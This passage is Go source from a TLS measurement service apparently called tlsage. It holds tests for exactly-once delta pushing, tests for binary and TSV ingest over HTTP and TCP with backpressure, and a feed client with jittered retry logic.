	}
	var b [20]byte
	i := len(b)
	for v > 0 {
		i--
		b[i] = byte('0' + v%10)
		v /= 10
	}
	return string(b[i:])
}

// testPusher builds a pusher against srv with an hour-long timer so the
// tests drive every push deterministically through Flush.
func testPusher(t *testing.T, url string, opts PusherOptions) *Pusher {
	t.Helper()
	opts.Source = "edge-test"
	opts.Upstream = url
	opts.Interval = time.Hour
	if opts.Rand == nil {
		opts.Rand = func() float64 { return 0 }
	}
	p, err := NewPusher(opts)
	if err != nil {
		t.Fatalf("NewPusher: %v", err)
	}
	return p
}

// TestPusherShipsExactlyOnce: three observed shards over two flushes land
// upstream exactly once each, the cursor tracking the summed generations.
func TestPusherShipsExactlyOnce(t *testing.T) {
	sink := newMergeSink()
	srv := httptest.NewServer(sink)
	defer srv.Close()
	p := testPusher(t, srv.URL, PusherOptions{})

	want := notary.NewAggregate()
	for seed := uint64(1); seed <= 2; seed++ {
		shard := buildAggregate(seed, 6)
		want.Merge(shard)
		p.Observe(shard)
	}
	if err := p.Flush(); err != nil {
		t.Fatalf("first flush: %v", err)
	}
	third := buildAggregate(3, 4)
	want.Merge(third)
	p.Observe(third)
	if err := p.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if got := p.ShippedThrough(); got != want.Generation() {
		t.Fatalf("shipped through %d, want %d", got, want.Generation())
	}
	if !reflect.DeepEqual(sink.agg, want) {
		t.Fatal("upstream aggregate differs from the merged shards")
	}
	if sink.deltas != 2 {
		t.Fatalf("upstream applied %d deltas, want 2", sink.deltas)
	}
	st := p.Stats()
	if st.ShippedDeltas != 2 || st.RetainedRecords != 0 || st.UpstreamErrors != 0 {
		t.Fatalf("stats %+v: want 2 shipped, 0 retained, 0 errors", st)
	}
	if st.LastPushAge < 0 {
		t.Fatal("LastPushAge still -1 after successful pushes")
	}
}

// TestPusherRetainsAcross429: a busy upstream sheds the push; the delta is
// retained (merged with later arrivals) and the retry applies everything
// exactly once.
func TestPusherRetainsAcross429(t *testing.T) {
	sink := newMergeSink()
	sink.fail = func(n int, w http.ResponseWriter) bool {
		if n == 1 {
			w.Header().Set("Retry-After", "0")
			w.WriteHeader(http.StatusTooManyRequests)
			return true
		}
		return false
	}
	srv := httptest.NewServer(sink)
	defer srv.Close()
	p := testPusher(t, srv.URL, PusherOptions{BaseDelay: time.Millisecond})

	first := buildAggregate(1, 5)
	p.Observe(first)
	if err := p.Flush(); err == nil {
		t.Fatal("flush against a 429 upstream reported success")
	}
	if st := p.Stats(); st.RetainedRecords != first.Generation() || st.UpstreamErrors != 1 {
		t.Fatalf("after 429: stats %+v, want %d retained and 1 error", st, first.Generation())
	}
	second := buildAggregate(2, 3)
	p.Observe(second)
	if err := p.Flush(); err != nil {
		t.Fatalf("retry flush: %v", err)
	}
	want := notary.NewAggregate()
	want.Merge(first)
	want.Merge(second)
	if !reflect.DeepEqual(sink.agg, want) {
		t.Fatal("upstream aggregate differs after retry (lost or doubled records)")
	}
	if p.ShippedThrough() != want.Generation() {
		t.Fatalf("shipped through %d, want %d", p.ShippedThrough(), want.Generation())
	}
	_ = p.Close()
}

// TestPusherRetainsAcrossTransportError: a dead upstream (connection
// refused) keeps the delta retained; once the upstream exists the retry
// ships everything exactly once.
func TestPusherRetainsAcrossTransportError(t *testing.T) {
	sink := newMergeSink()
	srv := httptest.NewServer(sink)
	url := srv.URL
	srv.Close() // now refuses connections

	p := testPusher(t, url, PusherOptions{BaseDelay: time.Millisecond})
	shard := buildAggregate(1, 8)
	p.Observe(shard)
	if err := p.Flush(); err == nil {
		t.Fatal("flush against a dead upstream reported success")
	}
	if st := p.Stats(); st.RetainedRecords != shard.Generation() {
		t.Fatalf("retained %d records, want %d", st.RetainedRecords, shard.Generation())
	}
	// Revive the upstream on a fresh port and point a new pusher at it with
	// the retained state — the restart shape, minus the durable log.
	srv2 := httptest.NewServer(sink)
	defer srv2.Close()
	p2 := testPusher(t, srv2.URL, PusherOptions{Initial: retained(p), Shipped: p.ShippedThrough()})
	if err := p2.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if !reflect.DeepEqual(sink.agg, shard) {
		t.Fatal("upstream aggregate differs from the observed shard")
	}
	_ = p.Close() // the dead-upstream pusher still holds its delta; expected to fail
}

// retained extracts the pending delta from a pusher for handoff in tests.
func retained(p *Pusher) *notary.Aggregate {
	p.mu.Lock()
	defer p.mu.Unlock()
	take := p.pending
	p.pending = notary.NewAggregate()
	return take
}

// TestPusherDuplicateAck: when the upstream already applied the delta (an
// ack lost in transit), the re-push is acked as a duplicate and the cursor
// advances without double-counting.
func TestPusherDuplicateAck(t *testing.T) {
	// Apply request 1 but kill its response: the client sees a transport
	// error after the server applied — the classic lost ack.
	sink := newMergeSink()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sink.mu.Lock()
		n := sink.reqs + 1
		sink.mu.Unlock()
		if n == 1 {
			// Apply, then cut the connection instead of replying.
			sink.ServeHTTP(&discardResponse{}, r)
			hj, ok := w.(http.Hijacker)
			if !ok {
				t.Error("response writer is not a hijacker")
				return
			}
			conn, _, err := hj.Hijack()
			if err == nil {
				conn.Close()
			}
			return
		}
		sink.ServeHTTP(w, r)
	}))
	defer srv.Close()

	p := testPusher(t, srv.URL, PusherOptions{BaseDelay: time.Millisecond})
	shard := buildAggregate(1, 5)
	p.Observe(shard)
	if err := p.Flush(); err == nil {
		t.Fatal("flush with a killed response reported success")
	}
	if err := p.Flush(); err != nil {
		t.Fatalf("duplicate re-push: %v", err)
	}
	if sink.deltas != 1 {
		t.Fatalf("upstream applied %d deltas, want 1 (duplicate must not re-apply)", sink.deltas)
	}
	if !reflect.DeepEqual(sink.agg, shard) {
		t.Fatal("upstream aggregate differs (duplicate double-counted)")
	}
	if p.ShippedThrough() != shard.Generation() {
		t.Fatalf("shipped through %d, want %d", p.ShippedThrough(), shard.Generation())
	}
	_ = p.Close()
}

// discardResponse satisfies http.ResponseWriter for the apply-then-kill
// path.
type discardResponse struct{ h http.Header }

func (d *discardResponse) Header() http.Header {
	if d.h == nil {
		d.h = make(http.Header)
	}
	return d.h
}
func (d *discardResponse) Write(b []byte) (int, error) { return len(b), nil }
func (d *discardResponse) WriteHeader(int)             {}

// TestPusherRebase: a partial overlap (409) rebuilds pending from the
// Rebase hook past the upstream cursor and the follow-up push carries only
// the unapplied tail.
func TestPusherRebase(t *testing.T) {
	sink := newMergeSink()
	srv := httptest.NewServer(sink)
	defer srv.Close()

	// The upstream has already applied the first 7 records from this source
	// (a previous life of the edge whose ack never persisted).
	already := buildAggregate(1, 4)
	sink.agg.Merge(already)
	sink.applied["edge-test"] = already.Generation()

	tail := buildAggregate(2, 3)
	var rebaseFrom uint64
	p := testPusher(t, srv.URL, PusherOptions{
		BaseDelay: time.Millisecond,
		Rebase: func(from uint64) (*notary.Aggregate, error) {
			rebaseFrom = from
			// The log replay past `from` yields exactly the unapplied tail.
			re := notary.NewAggregate()
			re.Merge(tail)
			return re, nil
		},
	})
	// The edge believes nothing shipped: its first push overlaps what the
	// upstream already applied.
	stale := notary.NewAggregate()
	stale.Merge(already)
	stale.Merge(tail)
	p.Observe(stale)
	if err := p.Flush(); err != nil {
		t.Fatalf("rebase flush: %v", err)
	}
	if rebaseFrom != already.Generation() {
		t.Fatalf("rebase hook saw cursor %d, want %d", rebaseFrom, already.Generation())
	}
	if err := p.Flush(); err != nil {
		t.Fatalf("post-rebase flush: %v", err)
	}
	want := notary.NewAggregate()
	want.Merge(already)
	want.Merge(tail)
	if !reflect.DeepEqual(sink.agg, want) {
		t.Fatal("upstream aggregate differs after rebase (overlap double-counted or tail lost)")
	}
	if p.ShippedThrough() != want.Generation() {
		t.Fatalf("shipped through %d, want %d", p.ShippedThrough(), want.Generation())
	}
	_ = p.Close()
}

// TestPusherNoRebaseHook: without a rebase source a conflict is a retained
// failure, not silent data loss.
func TestPusherNoRebaseHook(t *testing.T) {
	sink := newMergeSink()
	srv := httptest.NewServer(sink)
	defer srv.Close()
	sink.applied["edge-test"] = 5

	p := testPusher(t, srv.URL, PusherOptions{BaseDelay: time.Millisecond})
	shard := buildAggregate(1, 6)
	p.Observe(shard)
	err := p.Flush()
	if err == nil || !strings.Contains(err.Error(), "no rebase source") {
		t.Fatalf("conflict without rebase hook: err = %v", err)
	}
	if st := p.Stats(); st.RetainedRecords != shard.Generation() {
		t.Fatalf("retained %d records, want %d", st.RetainedRecords, shard.Generation())
	}
	_ = p.Close()
}

// TestShippedState: the cursor file round-trips, a missing file reads as
// zero, and an acked push persists atomically.
func TestShippedState(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "sub", "shipped.gen")
	if gen, err := LoadShippedState(path); err != nil || gen != 0 {
		t.Fatalf("missing state file: (%d, %v), want (0, nil)", gen, err)
	}
	if err := SaveShippedState(path, 12345); err != nil {
		t.Fatalf("SaveShippedState: %v", err)
	}
	if gen, err := LoadShippedState(path); err != nil || gen != 12345 {
		t.Fatalf("round trip: (%d, %v), want (12345, nil)", gen, err)
	}
	if err := os.WriteFile(path, []byte("not a number\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := LoadShippedState(path); err == nil {
		t.Fatal("corrupt state file read without error")
	}

	sink := newMergeSink()
	srv := httptest.NewServer(sink)
	defer srv.Close()
	statePath := filepath.Join(dir, "pusher", "shipped.gen")
	p := testPusher(t, srv.URL, PusherOptions{StatePath: statePath})
	shard := buildAggregate(1, 5)
	p.Observe(shard)
	if err := p.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}
	if gen, err := LoadShippedState(statePath); err != nil || gen != shard.Generation() {
		t.Fatalf("persisted cursor (%d, %v), want (%d, nil)", gen, err, shard.Generation())
	}
}

// TestPushDeltaOneShot: the fire-and-forget path used by scan campaigns.
func TestPushDeltaOneShot(t *testing.T) {
	sink := newMergeSink()
	srv := httptest.NewServer(sink)
	defer srv.Close()
	agg := buildAggregate(3, 7)
	ack, err := PushDelta(srv.URL, &Delta{Source: "campaign", Agg: agg}, nil)
	if err != nil {
		t.Fatalf("PushDelta: %v", err)
	}
	if ack.Records != agg.Generation() || ack.AppliedThrough != agg.Generation() {
		t.Fatalf("ack %+v, want %d records applied", ack, agg.Generation())
	}
	if !reflect.DeepEqual(sink.agg, agg) {
		t.Fatal("upstream aggregate differs from the pushed campaign")
	}
	// Replaying the identical push is an idempotent duplicate: acked, but
	// nothing applies twice.
	ack2, err := PushDelta(srv.URL, &Delta{Source: "campaign", Agg: agg}, nil)
	if err != nil {
		t.Fatalf("replayed PushDelta: %v", err)
	}
	if ack2.Records != 0 || sink.deltas != 1 {
		t.Fatalf("replay applied %d records over %d deltas, want 0 over 1", ack2.Records, sink.deltas)
	}
	if !reflect.DeepEqual(sink.agg, agg) {
		t.Fatal("replay changed the upstream aggregate")
	}
}
