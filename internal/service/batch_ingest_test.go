package service

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"tlsage/internal/analysis"
	"tlsage/internal/core"
	"tlsage/internal/notary"
)

// transcodeBatch re-encodes a TSV log into the binary batch framing with the
// given records-per-frame — the same transformation `tlstrend feed -binary
// -in log` applies on the fly.
func transcodeBatch(t *testing.T, log []byte, batchSize int) []byte {
	t.Helper()
	var buf bytes.Buffer
	bw := notary.NewBatchWriter(&buf, batchSize)
	if err := notary.ReadLog(bytes.NewReader(log), bw); err != nil {
		t.Fatal(err)
	}
	if err := bw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// tsvPrefix returns the first n data lines of a TSV log (comments skipped) —
// a small well-formed stream for saturation tests.
func tsvPrefix(t *testing.T, log []byte, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	taken := 0
	for _, l := range bytes.SplitAfter(log, []byte{'\n'}) {
		if taken == n {
			return buf.Bytes()
		}
		if len(bytes.TrimSpace(l)) == 0 || l[0] == '#' {
			continue
		}
		buf.Write(l)
		taken++
	}
	t.Fatalf("log has fewer than %d records", n)
	return nil
}

// TestIngestWireFormatParity is the cross-format acceptance check: the same
// log fed as binary batches over HTTP, TSV over HTTP, TSV over TCP and
// binary over TCP must answer /scalars and /query byte-identically — the
// wire format and transport must never leak into results. Every server runs
// with a bounded merge queue so the queued-merge path is covered, and every
// query is asked twice so the cached-body fast path must also match the
// freshly encoded body.
func TestIngestWireFormatParity(t *testing.T) {
	log, offline := sharedLog(t)
	batch := transcodeBatch(t, log, 53) // odd frame size sweeps frame boundaries
	wantRecords := offline.Aggregate().TotalRecords()
	const queryBody = `{"query": "pct(version:tls12 / established)"}`

	postIngest := func(body []byte, contentType string) func(t *testing.T, srv *Server, ts *httptest.Server, tcpAddr string) {
		return func(t *testing.T, srv *Server, ts *httptest.Server, tcpAddr string) {
			resp, err := http.Post(ts.URL+"/ingest", contentType, bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			var fed ingestStats
			if err := json.NewDecoder(resp.Body).Decode(&fed); err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK || fed.Records != wantRecords {
				t.Fatalf("ingest: status %d, %d records, want 200 with %d", resp.StatusCode, fed.Records, wantRecords)
			}
		}
	}
	dialIngest := func(body []byte) func(t *testing.T, srv *Server, ts *httptest.Server, tcpAddr string) {
		return func(t *testing.T, srv *Server, ts *httptest.Server, tcpAddr string) {
			conn, err := net.Dial("tcp", tcpAddr)
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			if _, err := conn.Write(body); err != nil {
				t.Fatal(err)
			}
			if err := conn.(*net.TCPConn).CloseWrite(); err != nil {
				t.Fatal(err)
			}
			reply, err := io.ReadAll(conn)
			if err != nil {
				t.Fatal(err)
			}
			if want := fmt.Sprintf("ok %d ", wantRecords); !strings.HasPrefix(string(reply), want) {
				t.Fatalf("tcp reply %q, want prefix %q", reply, want)
			}
		}
	}

	paths := []struct {
		name string
		feed func(t *testing.T, srv *Server, ts *httptest.Server, tcpAddr string)
	}{
		{"tsv-http", postIngest(log, ContentTypeTSV)},
		{"binary-http", postIngest(batch, ContentTypeBatch)},
		{"tsv-tcp", dialIngest(log)},
		{"binary-tcp", dialIngest(batch)},
	}

	var refScalars, refQuery []byte
	for i, p := range paths {
		p := p
		t.Run(p.name, func(t *testing.T) {
			srv := NewServer(core.NewLiveStudy(),
				WithFlushEvery(89+i), // sweep shard boundaries across paths
				WithQueueBound(32),
				WithQueryCache(analysis.NewQueryCache(16, 1<<20), "p"))
			ts := httptest.NewServer(srv.Handler())
			defer ts.Close()
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			served := make(chan error, 1)
			go func() { served <- srv.ServeTCP(ln) }()

			p.feed(t, srv, ts, ln.Addr().String())

			scalars := mustGet(t, ts.URL+"/scalars")
			query := func(wantCache string) []byte {
				resp, err := http.Post(ts.URL+"/query", "application/json", strings.NewReader(queryBody))
				if err != nil {
					t.Fatal(err)
				}
				defer resp.Body.Close()
				body, err := io.ReadAll(resp.Body)
				if err != nil {
					t.Fatal(err)
				}
				if resp.StatusCode != http.StatusOK || resp.Header.Get("X-Cache") != wantCache {
					t.Fatalf("query: status %d X-Cache %q, want 200 %q",
						resp.StatusCode, resp.Header.Get("X-Cache"), wantCache)
				}
				return body
			}
			miss := query("miss")
			hit := query("hit")
			if !bytes.Equal(miss, hit) {
				t.Errorf("cached query body diverges from the computed one:\nmiss: %s\nhit:  %s", miss, hit)
			}

			if refScalars == nil {
				refScalars, refQuery = scalars, miss
			} else {
				if !bytes.Equal(scalars, refScalars) {
					t.Errorf("/scalars diverges from the %s path", paths[0].name)
				}
				if !bytes.Equal(miss, refQuery) {
					t.Errorf("/query diverges from the %s path", paths[0].name)
				}
			}

			if err := srv.Close(); err != nil {
				t.Fatal(err)
			}
			if err := <-served; err != nil {
				t.Fatalf("ServeTCP: %v", err)
			}
		})
	}
}

// TestIngestBatchRejection sweeps malformed binary streams through POST
// /ingest: truncation, bit flips and short frames must answer 400 with a
// frame-tagged error, keeping every record from the intact frames before the
// damage — the live collector keeps what it has seen, same as the TSV
// bad-line semantics.
func TestIngestBatchRejection(t *testing.T) {
	log, offline := sharedLog(t)
	const frameSize = 50
	batch := transcodeBatch(t, log, frameSize)
	total := offline.Aggregate().TotalRecords()

	corrupt := func(mut func([]byte) []byte) []byte {
		b := append([]byte(nil), batch...)
		return mut(b)
	}
	cases := []struct {
		name string
		body []byte
	}{
		{"truncated", corrupt(func(b []byte) []byte { return b[:len(b)-3] })},
		{"bit-flip-tail", corrupt(func(b []byte) []byte { b[len(b)-1] ^= 0x40; return b })},
		{"bit-flip-payload", corrupt(func(b []byte) []byte { b[len(b)/2] ^= 0x01; return b })},
		{"short-frame", batch[:9]}, // a full header whose payload never arrives
		{"tsv-as-batch", log},      // declared binary, but no frame magic
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			srv := NewServer(core.NewLiveStudy())
			ts := httptest.NewServer(srv.Handler())
			defer ts.Close()
			resp, err := http.Post(ts.URL+"/ingest", ContentTypeBatch, bytes.NewReader(tc.body))
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			var reply struct {
				Error   string `json:"error"`
				Records int    `json:"records"`
			}
			if err := json.NewDecoder(resp.Body).Decode(&reply); err != nil {
				t.Fatal(err)
			}
			if resp.StatusCode != http.StatusBadRequest {
				t.Fatalf("status %d (%s), want 400", resp.StatusCode, reply.Error)
			}
			if !strings.Contains(reply.Error, "batch") {
				t.Errorf("error %q lacks the batch frame tag", reply.Error)
			}
			if reply.Records >= total {
				t.Errorf("%d records applied from a damaged stream of %d", reply.Records, total)
			}
			if reply.Records%frameSize != 0 {
				t.Errorf("%d applied records is not a whole number of %d-record frames", reply.Records, frameSize)
			}
			records, _, _, err := srv.Study().Counts()
			if err != nil || records != reply.Records {
				t.Errorf("study holds %d records (err %v), reply said %d", records, err, reply.Records)
			}
		})
	}
}

// TestIngestQueueSaturationSheds pins the bounded-queue backpressure, run
// under -race in CI: with the merge loop held by the test gate and a
// capacity-1 queue, a binary stream is part-applied and shed — FeedHTTP must
// refuse to retry it (a replay would double-count) — while a fresh TSV
// stream over TCP is cleanly shed with a retryable "busy" line, and /healthz
// exposes the shed in its queue gauges.
func TestIngestQueueSaturationSheds(t *testing.T) {
	log, _ := sharedLog(t)
	batchA := transcodeBatch(t, tsvPrefix(t, log, 8), 2)

	gate := make(chan struct{})
	var gateOnce sync.Once
	releaseGate := func() { gateOnce.Do(func() { close(gate) }) }
	srv := NewServer(core.NewLiveStudy(),
		WithFlushEvery(1), // shard per record: the queue fills after 2 records
		WithQueueBound(1),
		Option(func(s *Server) { s.queueGate = gate }))
	t.Cleanup(func() {
		releaseGate() // Close drains the queue; the loop must not stay gated
		srv.Close()
	})
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- srv.ServeTCP(ln) }()

	// Stream A (binary over HTTP): the merge loop parks on the gate holding
	// its first shard, the next fills the queue, and a later flush sheds.
	// FeedHTTP would normally retry a 429, but this one reports applied
	// records, so retrying must be refused.
	var feedRes FeedResult
	var feedErr error
	fed := make(chan struct{})
	go func() {
		defer close(fed)
		feedRes, feedErr = FeedHTTP(ts.URL,
			func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(batchA)), nil },
			FeedOptions{Binary: true, MaxRetries: 3})
	}()
	deadline := time.Now().Add(5 * time.Second)
	for srv.queue.shedFull.Load() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("stream A never hit the saturated queue")
		}
		time.Sleep(time.Millisecond)
	}

	// Stream B (TSV over TCP) arrives while the queue is still full: nothing
	// of it applies, so the server sheds it with the retryable busy line.
	conn, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write(tsvPrefix(t, log, 1)); err != nil {
		t.Fatal(err)
	}
	if err := conn.(*net.TCPConn).CloseWrite(); err != nil {
		t.Fatal(err)
	}
	reply, err := io.ReadAll(conn)
	conn.Close()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(string(reply)); got != fmt.Sprintf("busy %d", DefaultRetryAfter) {
		t.Fatalf("clean shed replied %q, want busy %d", got, DefaultRetryAfter)
	}

	// Release the merge loop: stream A's accepted shards fold in, its 429
	// arrives reporting them, and the feeder fails hard instead of retrying.
	releaseGate()
	<-fed
	if feedErr == nil || !strings.Contains(feedErr.Error(), "not retrying") {
		t.Fatalf("part-applied shed feed error = %v, want a no-retry refusal", feedErr)
	}
	if feedRes.Attempts != 1 {
		t.Errorf("feeder attempted %d times against a part-applied shed, want 1", feedRes.Attempts)
	}
	records, _, _, err := srv.Study().Counts()
	if err != nil {
		t.Fatal(err)
	}
	if records < 1 || records >= 8 {
		t.Errorf("study holds %d records, want the part-applied prefix (1..7)", records)
	}

	// /healthz exposes the saturation: both sheds counted, capacity visible.
	var health struct {
		Ingest struct {
			BinaryRecords uint64 `json:"binary_records"`
			TSVRecords    uint64 `json:"tsv_records"`
		} `json:"ingest"`
		Queue struct {
			Capacity int    `json:"capacity"`
			Enqueued uint64 `json:"batches_enqueued"`
			Merged   uint64 `json:"batches_merged"`
			ShedFull uint64 `json:"shed_full"`
		} `json:"ingest_queue"`
	}
	if err := json.Unmarshal(mustGet(t, ts.URL+"/healthz"), &health); err != nil {
		t.Fatal(err)
	}
	if health.Queue.Capacity != 1 || health.Queue.ShedFull < 2 {
		t.Errorf("queue gauges = %+v, want capacity 1 with >= 2 sheds", health.Queue)
	}
	if health.Queue.Merged != health.Queue.Enqueued {
		t.Errorf("queue drained %d of %d accepted shards", health.Queue.Merged, health.Queue.Enqueued)
	}
	if health.Ingest.BinaryRecords == 0 || health.Ingest.TSVRecords == 0 {
		t.Errorf("wire-format gauges = %+v, want both formats counted", health.Ingest)
	}

	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	if err := <-served; err != nil {
		t.Fatalf("ServeTCP: %v", err)
	}
}
