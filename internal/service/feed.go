package service

import (
	"encoding/json"
	"fmt"
	"io"
	"math/rand"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"
)

// FeedOptions tunes the retry behavior of FeedHTTP and FeedTCP. The zero
// value never retries — a shed stream (HTTP 429 or a TCP "busy" line) is
// reported as an error, matching the old one-shot feeder.
type FeedOptions struct {
	// Binary declares the stream body uses the batch framing rather than
	// TSV. FeedHTTP then posts it with the batch Content-Type; FeedTCP needs
	// no flag (the server sniffs the frame magic) but accepts it for
	// symmetry.
	Binary bool
	// MaxRetries is how many times a shed stream is retried before giving
	// up. 0 means no retries.
	MaxRetries int
	// BaseDelay seeds the exponential backoff (default 250ms). Each shed
	// doubles it, capped at MaxDelay (default 10s); the server's
	// Retry-After (or the busy line's seconds) raises the floor.
	BaseDelay time.Duration
	MaxDelay  time.Duration
	// Sleep is the delay function — a test hook; nil means time.Sleep.
	Sleep func(time.Duration)
	// Rand supplies jitter in [0,1); nil uses math/rand. Jitter spreads
	// synchronized feeders apart so they don't re-saturate the server in
	// lockstep after a shed.
	Rand func() float64
	// Logf, when set, receives one line per retry ("server busy, retrying
	// in ...").
	Logf func(format string, args ...any)
}

// FeedResult reports a successfully ingested stream.
type FeedResult struct {
	Records    int    // records the server accepted from this stream
	Generation uint64 // server aggregate generation after the merge
	Attempts   int    // total attempts, including the successful one
}

// errShed is the internal marker for "the server shed this stream; retry
// after the embedded delay floor".
type errShed struct {
	retryAfter time.Duration
}

func (e errShed) Error() string { return "server busy" }

// feedRetry runs attempt until it succeeds, fails hard, or exhausts the
// retry budget. Only errShed results are retried.
func feedRetry(opts FeedOptions, attempt func() (FeedResult, error)) (FeedResult, error) {
	base := opts.BaseDelay
	if base <= 0 {
		base = 250 * time.Millisecond
	}
	maxDelay := opts.MaxDelay
	if maxDelay <= 0 {
		maxDelay = 10 * time.Second
	}
	sleep := opts.Sleep
	if sleep == nil {
		sleep = time.Sleep
	}
	rnd := opts.Rand
	if rnd == nil {
		rnd = rand.Float64
	}
	backoff := base
	for try := 0; ; try++ {
		res, err := attempt()
		res.Attempts = try + 1
		var shed errShed
		if err == nil || !asShed(err, &shed) {
			return res, err
		}
		if try >= opts.MaxRetries {
			return res, fmt.Errorf("feed: server still busy after %d attempts", try+1)
		}
		delay := backoff
		if shed.retryAfter > delay {
			delay = shed.retryAfter
		}
		// Full jitter on top of the floor: [delay, 2*delay).
		delay += time.Duration(rnd() * float64(delay))
		if delay > maxDelay {
			delay = maxDelay
		}
		if opts.Logf != nil {
			opts.Logf("feed: server busy, retrying in %v (attempt %d/%d)",
				delay.Round(time.Millisecond), try+2, opts.MaxRetries+1)
		}
		sleep(delay)
		if backoff *= 2; backoff > maxDelay {
			backoff = maxDelay
		}
	}
}

func asShed(err error, out *errShed) bool {
	if se, ok := err.(errShed); ok {
		*out = se
		return true
	}
	return false
}

// FeedHTTP streams a record log (TSV, or batch-framed with opts.Binary)
// into a server's POST /ingest endpoint, retrying when the server sheds the
// stream with 429 (honoring its Retry-After header as the backoff floor).
// open must return a fresh body for every attempt — a shed stream was never
// read, but the connection is gone, so the feeder needs to restart it from
// the top. A 429 reporting a nonzero record count is NOT retried: the
// server applied part of the stream before its merge queue filled, and
// replaying from the top would double-count those records.
func FeedHTTP(baseURL string, open func() (io.ReadCloser, error), opts FeedOptions) (FeedResult, error) {
	url := strings.TrimSuffix(baseURL, "/") + "/ingest"
	contentType := ContentTypeTSV
	if opts.Binary {
		contentType = ContentTypeBatch
	}
	return feedRetry(opts, func() (FeedResult, error) {
		var res FeedResult
		body, err := open()
		if err != nil {
			return res, err
		}
		resp, err := http.Post(url, contentType, body)
		body.Close()
		if err != nil {
			return res, err
		}
		defer resp.Body.Close()
		raw, err := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		if err != nil {
			return res, fmt.Errorf("feed: reading server reply: %w", err)
		}
		var reply struct {
			Records    int    `json:"records"`
			Generation uint64 `json:"generation"`
			Error      string `json:"error"`
		}
		if resp.StatusCode == http.StatusTooManyRequests {
			if json.Unmarshal(raw, &reply) == nil && reply.Records > 0 {
				return res, fmt.Errorf(
					"feed: server shed a part-applied stream (%d records merged); not retrying to avoid duplicates",
					reply.Records)
			}
			return res, errShed{retryAfter: parseRetryAfter(resp.Header.Get("Retry-After"))}
		}
		if err := json.Unmarshal(raw, &reply); err != nil {
			// Not a tlstrend serve reply (wrong port, proxy error page, ...):
			// report the status line and what came back rather than a JSON error.
			return res, fmt.Errorf("feed: server replied %s: %s", resp.Status, strings.TrimSpace(string(raw)))
		}
		if resp.StatusCode != http.StatusOK {
			return res, fmt.Errorf("feed: server rejected stream after %d records: %s", reply.Records, reply.Error)
		}
		res.Records = reply.Records
		res.Generation = reply.Generation
		return res, nil
	})
}

// FeedTCP streams a record log (TSV or batch-framed — the server sniffs the
// wire format) over a raw TCP connection, retrying when the server replies
// with a "busy <seconds>" shed line. The server only says "busy" when
// nothing from the stream was applied; a part-applied shed comes back as
// "error: ..." and fails hard, so retries never double-count. open must
// return a fresh body for every attempt.
func FeedTCP(addr string, open func() (io.ReadCloser, error), opts FeedOptions) (FeedResult, error) {
	return feedRetry(opts, func() (FeedResult, error) {
		var res FeedResult
		body, err := open()
		if err != nil {
			return res, err
		}
		defer body.Close()
		conn, err := net.Dial("tcp", addr)
		if err != nil {
			return res, err
		}
		defer conn.Close()
		// A server that hits a malformed line (or sheds the stream) stops
		// reading mid-copy, which can fail this copy — still try to collect
		// the status line, which names the cause, before falling back to the
		// transport error.
		_, copyErr := io.Copy(conn, body)
		if tc, ok := conn.(*net.TCPConn); ok {
			_ = tc.CloseWrite()
		}
		reply, _ := io.ReadAll(io.LimitReader(conn, 1<<16))
		line := strings.TrimSpace(string(reply))
		switch {
		case strings.HasPrefix(line, "busy"):
			return res, errShed{retryAfter: parseBusyLine(line)}
		case strings.HasPrefix(line, "ok "):
			res.Records, res.Generation = parseOKLine(line)
			return res, nil
		case line == "" && copyErr != nil:
			return res, fmt.Errorf("feed: streaming to %s: %w", addr, copyErr)
		default:
			return res, fmt.Errorf("feed: %s", line)
		}
	})
}

// parseRetryAfter reads an HTTP Retry-After value in its delta-seconds
// form; anything else (absolute dates, garbage, absent) yields 0 and the
// client falls back to pure exponential backoff.
func parseRetryAfter(v string) time.Duration {
	secs, err := strconv.Atoi(strings.TrimSpace(v))
	if err != nil || secs < 0 {
		return 0
	}
	return time.Duration(secs) * time.Second
}

// parseBusyLine reads the seconds hint off a TCP "busy <seconds>" line.
func parseBusyLine(line string) time.Duration {
	fields := strings.Fields(line)
	if len(fields) < 2 {
		return 0
	}
	return parseRetryAfter(fields[1])
}

// parseOKLine reads "ok <records> <generation>"; malformed counts
// degrade to zeros rather than failing a stream the server accepted.
func parseOKLine(line string) (int, uint64) {
	fields := strings.Fields(line)
	var records int
	var gen uint64
	if len(fields) >= 2 {
		records, _ = strconv.Atoi(fields[1])
	}
	if len(fields) >= 3 {
		gen, _ = strconv.ParseUint(fields[2], 10, 64)
	}
	return records, gen
}
