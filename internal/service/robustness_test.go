package service

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"tlsage/internal/core"
	"tlsage/internal/notary"
)

// waitFor polls cond for up to two seconds.
func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(time.Millisecond)
